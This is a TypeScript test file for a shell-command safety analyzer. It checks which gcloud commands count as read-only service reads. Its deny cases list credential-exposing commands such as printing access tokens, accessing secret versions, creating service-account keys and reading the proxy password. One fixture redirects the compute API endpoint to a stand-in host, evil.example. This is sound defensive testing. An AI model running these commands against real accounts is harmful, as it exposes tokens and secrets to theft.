import { beforeAll, describe, expect, test } from 'vitest';
import { analyze, loadBash } from '../../../src/bash/analyze.js';
import { GCLOUD_SPEC } from '../../../src/bash/programs/gcloud/spec.js';
import { checkProgram } from '../../../src/bash/programs/read-only.js';
import { shown } from './support.js';

beforeAll(loadBash);

function check(line: string, kind: 'readOnly' | 'serviceRead' = 'serviceRead') {
  return checkProgram(GCLOUD_SPEC, analyze(line).commands[0]!.argv, true, kind);
}

describe('gcloud: service reads', () => {
  test.each([
    'gcloud',
    'gcloud --version',
    'gcloud -h',
    'gcloud compute --help',
    'gcloud compute instances list --help',
    'gcloud version',
    'gcloud info',
    'gcloud info --anonymize --format=json',
    'gcloud auth list',
    'gcloud auth list --filter-account=dev@example.org',
    'gcloud config get project',
    'gcloud config get-value compute/zone',
    'gcloud config list core',
    'gcloud config list compute/region --format=json',
    'gcloud config configurations list',
    'gcloud help compute instances',
    'gcloud topic formats',
    'gcloud projects list --sort-by=projectId --limit 10',
    'gcloud projects describe demo-123',
    'gcloud projects get-iam-policy demo-123 --format=json',
    'gcloud compute instances list --filter="status=RUNNING" --zones us-east1-b,us-east1-c',
    'gcloud compute instances describe web-1 --zone us-east1-b',
    'gcloud compute backend-services get-health web --global',
    'gcloud --project=demo --format json compute instances list',
    'gcloud compute --project demo zones list -q',
    'gcloud --format delete compute instances list',
    'gcloud --configuration ops --account ops@example.org compute regions list',
    'gcloud container clusters list --region us-central1',
    'gcloud container clusters describe main --zone us-central1-a',
    'gcloud container images list-tags gcr.io/demo/app --limit 3',
    'gcloud run services describe api --region europe-west1 --format=yaml',
    'gcloud run services logs read api --limit 20',
    'gcloud functions logs read handler --region us-central1',
    'gcloud app logs read --service default',
    'gcloud logging read "severity>=ERROR" --freshness 1d --limit 20',
    'gcloud logging logs list --verbosity warning',
    'gcloud secrets list',
    'gcloud secrets versions list app-db',
    'gcloud secrets versions describe 3 --secret app-db',
    'gcloud iam service-accounts keys list --iam-account ci@demo.iam.gserviceaccount.com',
    'gcloud iam roles describe roles/viewer',
    'gcloud kms keys list --keyring main --location global',
    'gcloud storage buckets list',
    'gcloud storage objects list gs://logs/2026 --raw',
    'gcloud sql instances describe db-1',
    'gcloud beta run services list --region us-central1',
    'gcloud beta compute instances describe web-1 --zone us-east1-b',
    'gcloud iap settings get --project demo --resource-type=compute',
  ])('%s', (line) => {
    expect(check(line)).toMatchObject({ readOnly: true });
  });

  test.each(['gcloud compute instances list', 'gcloud version', 'gcloud --version'])(
    '%s is no local read (every run writes its logs)',
    (line) => {
      expect(check(line, 'readOnly').readOnly).toBe(false);
    },
  );

  test.each([
    // secrets, keys, tokens
    ['gcloud auth print-access-token', 'not a known read-only subcommand'],
    ['gcloud auth print-identity-token', 'not a known read-only subcommand'],
    ['gcloud auth application-default print-access-token', 'not a known read-only subcommand'],
    ['gcloud config config-helper --format=json', 'not a known read-only subcommand'],
    ['gcloud secrets versions access latest --secret app-db', 'not a known read-only subcommand'],
    ['gcloud sql generate-login-token', 'not a known read-only subcommand'],
    [
      'gcloud iam service-accounts keys create key.json --iam-account a@b',
      'not a known read-only subcommand',
    ],
    ['gcloud redis instances get-auth-string cache --region us-east1', 'not a known read-only subcommand'],
    ['gcloud services api-keys get-key-string k1', 'not a known read-only subcommand'],
    ['gcloud iam oauth-clients credentials describe c --oauth-client o --location global', ''],
    ['gcloud vmware private-clouds vcenter credentials describe --private-cloud pc', ''],
    ['gcloud composer environments user-workloads-secrets describe s --environment e', ''],
    ['gcloud domains registrations authorization-code get example.org', ''],
    // the proxy password is one of the properties
    ['gcloud config list', 'prints every property'],
    ['gcloud config list --all', 'proxy password'],
    ['gcloud config get proxy/password', 'proxy section'],
    ['gcloud config list proxy', 'proxy section'],
    ['gcloud config get-value proxy/username', 'proxy section'],
    ['gcloud config configurations describe default', 'not a known read-only subcommand'],
    // writes, local files, local programs
    [
      'gcloud container clusters get-credentials main --zone us-central1-a',
      'not a known read-only subcommand',
    ],
    ['gcloud compute instances delete web-1', 'not a known read-only subcommand'],
    ['gcloud --project demo compute instances delete list', 'not a known read-only subcommand'],
    ['gcloud config set project demo', 'not a known read-only subcommand'],
    ['gcloud compute ssh web-1', 'not a known read-only subcommand'],
    ['gcloud auth login', 'not a known read-only subcommand'],
    ['gcloud components update', 'not a known read-only subcommand'],
    ['gcloud info --show-log', 'unknown option'],
    ['gcloud compute instances get-serial-port-output web-1', 'not a known read-only subcommand'],
    ['gcloud alpha compute instances list', 'not a known read-only subcommand'],
    // other credentials, files of flags, requests logged
    ['gcloud compute instances list --access-token-file /tmp/t', 'is not a read-only option'],
    ['gcloud --impersonate-service-account ci@demo.iam.gserviceaccount.com projects list', 'not a read-only'],
    ['gcloud projects list --flags-file flags.yaml', 'is not a read-only option'],
    ['gcloud projects list --log-http', 'is not a read-only option'],
    ['gcloud --log-http projects list', 'is not a read-only option'],
    ['gcloud projects list --verbosity=debug', 'logs requests'],
    ['gcloud projects describe "$PROJECT"', ''],
    // abbreviations argparse may read are not guessed; flags of other commands are not taken
    ['gcloud compute instances list --filt x', 'unknown option'],
    ['gcloud --zone us-central1-a compute instances list', 'unknown option'],
  ])('%s is not a service read', (line, reason) => {
    const verdict = check(line);
    expect(verdict.readOnly).toBe(false);
    if (reason) expect(verdict.reason).toContain(reason);
  });

  test.each(['gcloud compute instances list', 'gcloud config get project'])('%s names no files', (line) => {
    expect(shown(line)).toMatchObject({ known: true, effects: [] });
  });

  test.each([
    [
      'CLOUDSDK_API_ENDPOINT_OVERRIDES_COMPUTE=https://evil.example/ gcloud compute instances list',
      'CLOUDSDK_',
    ],
    ['CLOUDSDK_AUTH_ACCESS_TOKEN_FILE=t gcloud projects list', 'CLOUDSDK_'],
    ['AZURE_CONFIG_DIR=./x az vm list', 'AZURE_'],
  ])('%s: the variable changes what the CLI reads and where it sends it', (line, name) => {
    expect(shown(line).code.join(' ')).toContain(`environment ${name}`);
  });

  test('a command that writes leaves its files unknown', () => {
    expect(shown('gcloud iam service-accounts keys create key.json --iam-account a@b').known).toBe(false);
  });
});
